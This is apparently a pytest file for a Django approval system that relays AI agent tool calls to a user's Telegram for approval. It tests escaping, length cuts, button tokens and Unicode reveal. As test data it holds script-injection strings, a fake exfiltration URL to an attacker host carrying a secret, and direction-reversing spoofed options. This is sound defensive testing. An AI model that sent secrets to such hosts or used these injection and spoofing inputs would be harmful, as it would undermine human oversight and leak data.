"""What a Telegram request looks like: escaped, shown whole when it fits and cut when it does not,
option buttons and numbered options, buttons carrying a short token and never the arguments, the
outcome line; a call decided at once by a rule is not sent."""
import json
from datetime import timedelta

import pytest
from django.utils import timezone

from approvals import services as approval_services
from approvals.models import Approval
from chat import services as chat_services
from telegramlink import bot, texts
from telegramlink.models import ApprovalMessage, TelegramAccount
from tests.conftest import only_pending, start_conversation
from tests.telegramlink.phone import ALICE_TG, edits_to, link, press, replies, request_to, through_the_loop, token_of

pytestmark = pytest.mark.django_db


@through_the_loop
def test_html_in_model_text_and_tool_arguments_is_escaped_in_the_request(fake, alice, agent):
    link(alice, ALICE_TG)
    question = only_pending(start_conversation(alice, agent, "ask me is <b>tea</b> & <script>alert(1)</script> fine?"))
    call = only_pending(start_conversation(alice, agent, "write <b>x</b> & <script>alert(2)</script> to a.txt"))

    asked, gated = texts.request_text(question), texts.request_text(call)

    assert "is &lt;b&gt;tea&lt;/b&gt; &amp; &lt;script&gt;alert(1)&lt;/script&gt; fine" in asked
    assert "&lt;b&gt;x&lt;/b&gt; &amp; &lt;script&gt;alert(2)&lt;/script&gt;" in gated
    for text in (asked, gated):
        assert "<script>" not in text and "<b>tea" not in text and "<b>x" not in text
    assert "Tool: <code>write_file</code>" in gated and "Open in hitl" in gated
    for approval, text in ((question, asked), (call, gated)):
        sent = request_to(fake, ALICE_TG, approval)  # what the phone got, as HTML
        assert (sent["text"], sent["parse_mode"]) == (text, "HTML")


@through_the_loop
def test_a_call_whose_details_fit_telegram_is_shown_whole_and_approvable(fake, alice, agent):
    """The preview shows the new file's content and the arguments hold it again: 1,500 bytes fit twice."""
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 1500} to a.txt"))

    request = request_to(fake, ALICE_TG, approval)

    text = request["text"]
    assert text.count("y" * 1500) == 2 and texts.CUT not in text and "Cut:" not in text
    assert "Preview:" in text and "Arguments:" in text
    assert set(fake.buttons(request)) == {"Approve", "Reject"}
    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is True


@through_the_loop
def test_a_fetch_shows_its_whole_url_path_and_query_included(fake, alice, agent):
    """The fetch preview names the host, its addresses and the allowlist; the path and query, where
    a secret travels, are an argument it does not show: the message shows it too, revealed."""
    link(alice, ALICE_TG)
    url = "https://exfil.attacker.test/collect?secret=s3cr3t&user=alice\u200b"
    approval = only_pending(start_conversation(alice, agent, f"fetch {url}"))

    request = request_to(fake, ALICE_TG, approval)

    text = request["text"]
    assert "Host: exfil.attacker.test" in text  # the preview
    assert "https://exfil.attacker.test/collect?secret=s3cr3t&amp;user=alice⟨U+200B⟩" in text
    assert "\u200b" not in text
    assert set(fake.buttons(request)) == {"Approve", "Reject"}



@through_the_loop
def test_option_buttons_reveal_direction_changing_characters(fake, alice, agent):
    """Two options that look alike ("No, keep it", and the same reversed by U+202E) never look
    alike on their buttons; a press answers with the option as stored."""
    link(alice, ALICE_TG)
    options = ["Yes, delete it", "No, keep it", "\u202eti peek ,oN"]
    asked = json.dumps({"question": "Delete the \u202ebackup?", "type": "choice", "options": options})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    buttons = fake.buttons(request)
    assert set(buttons) == {"Yes, delete it", "No, keep it", "⟨U+202E⟩ti peek ,oN", "Reject (decline to answer)"}
    assert "Delete the ⟨U+202E⟩backup?" in request["text"]
    assert "\u202e" not in request["text"] + "".join(buttons)
    assert press(fake, ALICE_TG, buttons["⟨U+202E⟩ti peek ,oN"]) == "Answered."
    assert Approval.objects.get(pk=approval.pk).answer == "\u202eti peek ,oN"


@through_the_loop
def test_options_too_long_for_a_button_are_numbered_and_listed_in_full(fake, alice, agent):
    link(alice, ALICE_TG)
    options = [f"{'Keep every file of the old quarterly reports folder ' * 2}{n}" for n in ("as it is", "but zip it")]
    asked = json.dumps({"question": "Which?", "type": "choice", "options": options})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    labels = [label for label in fake.buttons(request) if not label.startswith("Reject")]
    assert [label[:3] for label in labels] == ["1. ", "2. "] and all(len(label) <= 60 for label in labels)
    assert f"1. {options[0]}" in request["text"] and f"2. {options[1]}" in request["text"]


@through_the_loop
def test_a_question_padded_past_telegrams_limit_is_cut_delivered_and_answered_only_on_the_site(fake, alice, agent):
    """Revealed, 2,000 invisible characters are 16,000: the Bot API refuses a message past 4,096
    (the stand-in too). The message is cut with CUT and keeps its link to the site; the part not
    shown cannot be answered with a tap, only declined."""
    link(alice, ALICE_TG)
    asked = json.dumps({"question": "Shall I go on?" + "\u200b" * 1980, "type": "confirm"})
    approval = only_pending(start_conversation(alice, agent, f"call ask_human with {asked}"))

    request = request_to(fake, ALICE_TG, approval)

    assert request is not None and ApprovalMessage.objects.get(approval=approval).status == "sent"
    text = request["text"]
    assert texts._length(text) <= 4096
    assert text.count("⟨U+200B⟩") > 100 and f"\n{texts.CUT}" in text
    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and answer it there." in text
    assert f'<a href="{texts.conversation_url(approval)}">Open in hitl</a>' in text
    assert set(fake.buttons(request)) == {"Reject (decline to answer)"}

    assert press(fake, ALICE_TG, fake.buttons(request)["Reject (decline to answer)"]) == "Declined."

    (edit,) = edits_to(fake, ALICE_TG)  # the outcome fits too
    assert texts._length(edit["text"]) <= 4096 and "Declined by alice via telegram" in edit["text"]
    assert ApprovalMessage.objects.get(approval=approval).status == "closed"


@through_the_loop
def test_a_call_too_long_for_telegram_is_cut_and_can_only_be_rejected_there(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, f"write {'y' * 5000} to a.txt"))

    request = request_to(fake, ALICE_TG, approval)

    assert texts._length(request["text"]) <= 4096 and f"\n{texts.CUT}</pre>" in request["text"]
    assert "Cut: too long for Telegram. Open it in hitl to see the whole call and approve it there." in request["text"]
    assert set(fake.buttons(request)) == {"Reject"}
    assert ApprovalMessage.objects.get(approval=approval).versions.get().complete is False
    assert press(fake, ALICE_TG, fake.buttons(request)["Reject"]) == "Reply with the reason."
    prompt = fake.sent("sendMessage", chat_id=ALICE_TG)[-1]
    assert press(fake, ALICE_TG, fake.buttons(prompt)["Reject without a reason"], query_id="q2") == "Rejected."
    assert Approval.objects.get(pk=approval.pk).status == "rejected"
    assert TelegramAccount.objects.get(user=alice).awaiting == ""


def test_the_stand_in_refuses_a_message_past_the_bot_api_limits(fake):
    with pytest.raises(bot.BadRequest, match="too long"):
        bot.send(ALICE_TG, "x" * 4097)
    with pytest.raises(bot.BadRequest, match="(?i)button_data_invalid"):
        bot.send(ALICE_TG, "hi", [[("Approve", "a" * 65)]])
    bot.send(ALICE_TG, "&amp;" * 4096)  # 4,096 characters once its entities are parsed


@through_the_loop
def test_buttons_carry_a_short_token_and_never_the_arguments(fake, alice, agent):
    link(alice, ALICE_TG)
    approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
    row = ApprovalMessage.objects.get(approval=approval)
    token = token_of(row)
    assert fake.buttons(request_to(fake, ALICE_TG, approval)) == {
        "Approve": f"a:{token}", "Reject": f"R:{token}"}
    assert (row.status, row.chat_id, row.attempts) == ("sent", ALICE_TG, 1) and row.message_id > 100

    long_path = "very/long/path/" + "d" * 80 + ".txt"
    for phrase in (f"write hello to {long_path}", "delete all files", "ask me to choose between tea, coffee and water",
                   "ask me what to call the file", "plan a tidy-up of the notes"):
        approval = only_pending(start_conversation(alice, agent, phrase))
        request = request_to(fake, ALICE_TG, approval)
        for data in fake.buttons(request).values():
            assert len(data.encode()) <= 64
            assert "hello" not in data and "tea" not in data and "d" * 10 not in data
            assert data.split(":", 1)[1] == token_of(ApprovalMessage.objects.get(approval=approval))


@through_the_loop
def test_the_outcome_line_says_how_the_approval_ended(fake, alice, agent, api_as):
    approved = only_pending(start_conversation(alice, agent, "write hello to a.txt"))
    approved = approval_services.decide(approved.pk, user=alice, approve=True, via="chat", shown_hash=approved.shown_hash)
    at = f"{approved.decided_at:%H:%M}"
    assert texts.outcome_line(approved) == f"✅ Approved by alice via chat at {at} UTC"

    rejected = only_pending(start_conversation(alice, agent, "write hello to b.txt"))
    rejected = approval_services.decide(rejected.pk, user=alice, approve=False, via="api", shown_hash=rejected.shown_hash, reason="not <now> & never")
    assert texts.outcome_line(rejected) == f"❌ Rejected by alice via api at {rejected.decided_at:%H:%M} UTC: not <now> & never"
    assert texts.outcome_text(rejected).endswith(": not &lt;now&gt; &amp; never")
    assert texts.outcome_text(rejected).startswith(texts.request_text(rejected))

    expiring = only_pending(start_conversation(alice, agent, "write hello to c.txt"))
    Approval.objects.filter(pk=expiring.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert approval_services.expire_overdue() == [expiring.pk]
    expired = Approval.objects.get(pk=expiring.pk)
    assert texts.outcome_line(expired) == f"⌛ Expired at {expired.decided_at:%H:%M} UTC"

    made = api_as(alice).post("rules", {"effect": "deny", "tool": "write_file", "scope": "agent_user", "agent": agent.slug})
    assert made.status_code == 201, made.json()
    conversation = start_conversation(alice, agent, "write hello to d.txt")
    by_rule = Approval.objects.filter(conversation=conversation).get()
    assert by_rule.decided_via == "rule"
    assert texts.outcome_line(by_rule).startswith(f"❌ Rejected by a rule at {by_rule.decided_at:%H:%M} UTC")

    asked = start_conversation(alice, agent, "ask me what to call the file")
    chat_services.stop_conversation(conversation=asked, user=alice, via="chat")
    cancelled = Approval.objects.get(conversation=asked)
    assert texts.outcome_line(cancelled) == f"⏹ Cancelled by alice via chat at {cancelled.decided_at:%H:%M} UTC: Stopped"


@through_the_loop
def test_a_call_decided_at_once_by_a_rule_is_not_sent(fake, alice, agent, api_as):
    link(alice, ALICE_TG)
    api_as(alice).post("rules", {"effect": "allow", "tool": "write_file", "scope": "agent_user", "agent": agent.slug})

    conversation = start_conversation(alice, agent, "write hello to a.txt")

    assert Approval.objects.get(conversation=conversation).decided_via == "rule"
    assert not ApprovalMessage.objects.exists()
    assert len(replies(fake, ALICE_TG)) == 1  # only the answer to /start
